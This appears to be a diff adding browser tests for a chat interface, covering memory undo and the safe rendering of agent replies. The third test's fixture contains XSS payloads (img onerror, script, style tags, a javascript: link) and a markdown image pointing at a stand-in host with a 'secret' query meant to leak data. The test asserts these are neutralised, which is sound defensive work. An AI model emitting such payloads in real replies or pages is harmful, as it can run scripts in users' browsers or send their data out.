@@ -1,0 +1,72 @@
+import { ScriptedLlm } from "memgpt/testing";
+import { expect, test } from "vitest";
+import { inBrowser, makeAgent, say, visit } from "./support/browser.ts";
+
+inBrowser("chat", () => {
+  test("a first visit comes to a first remembered fact, which one click takes back", async () => {
+    const { page, asked, complaints, server } = await visit();
+    await makeAgent(page);
+
+    await say(page, "My boyfriend is called James.");
+
+    const row = page.getByRole("region", { name: "Remembered in human" });
+    await expect.poll(() => row.innerText()).toContain("Boyfriend named James");
+    await page.getByRole("button", { name: "Memory panel" }).click();
+    const human = page.getByLabel("What the model sees in human");
+    await expect.poll(() => human.innerText()).toContain("Boyfriend named James");
+
+    await row.getByRole("button", { name: "Undo" }).click();
+    await expect.poll(() => human.innerText()).not.toContain("James");
+
+    await page.getByRole("button", { name: "Undo the last turn or command, memory included" }).click();
+    await expect.poll(() => human.innerText()).toContain("Boyfriend named James");
+    expect(asked.filter((url) => !url.startsWith(server.url))).toEqual([]);
+    expect(complaints).toEqual([]);
+  });
+
+  test("undo takes back the turn with what it remembered", async () => {
+    const { page } = await visit();
+    await makeAgent(page);
+    await say(page, "My boyfriend is called James.");
+
+    await page.getByRole("button", { name: "Undo the last turn or command, memory included" }).click();
+
+    await expect.poll(() => page.getByRole("article").count()).toBe(0);
+    await page.getByRole("button", { name: "Memory panel" }).click();
+    expect(await page.getByLabel("What the model sees in human").innerText()).not.toContain("James");
+  });
+
+  test("markdown is shown, pictures are links, and nothing in a reply runs or is fetched", async () => {
+    const hostile = [
+      "# Title",
+      "**bold** `code` <img src=x onerror=\"document.title='run'\"> <script>document.title='run'</script>",
+      "![a picture](https://evil.example/leak.png?q=secret)",
+      "[plain](javascript:alert(1)) [site](https://evil.example/page)",
+      "<style>body{display:none}</style>",
+      "```js",
+      "const a = '<b>';",
+      "```",
+      "| a | b |\n|---|---|\n| 1 | 2 |",
+    ].join("\n\n");
+    const llm = (): ScriptedLlm => new ScriptedLlm([{ call: "send_message", args: { message: hostile } }]);
+    const { page, asked, complaints, server } = await visit({ llm });
+    await makeAgent(page, '<img src=x onerror="document.title=1">');
+
+    await say(page, "<script>document.title='run'</script> **hi**");
+
+    const reply = page.locator("article.agent .markdown");
+    expect(await reply.locator("strong").innerText()).toBe("bold");
+    expect(await reply.locator("table td").allInnerTexts()).toEqual(["1", "2"]);
+    expect(await reply.innerText()).toContain("<script>document.title='run'</script>");
+    expect(await reply.locator("img, script, style").count()).toBe(0);
+    const links = await reply.locator("a").all();
+    expect(await Promise.all(links.map((link) => link.getAttribute("href")))).toEqual([
+      "https://evil.example/leak.png?q=secret",
+      "https://evil.example/page",
+    ]);
+    for (const link of links) expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+    expect(await page.title()).toBe("memgpt");
+    expect(asked.filter((url) => !url.startsWith(server.url))).toEqual([]);
+    expect(complaints).toEqual([]);
+  });
+});
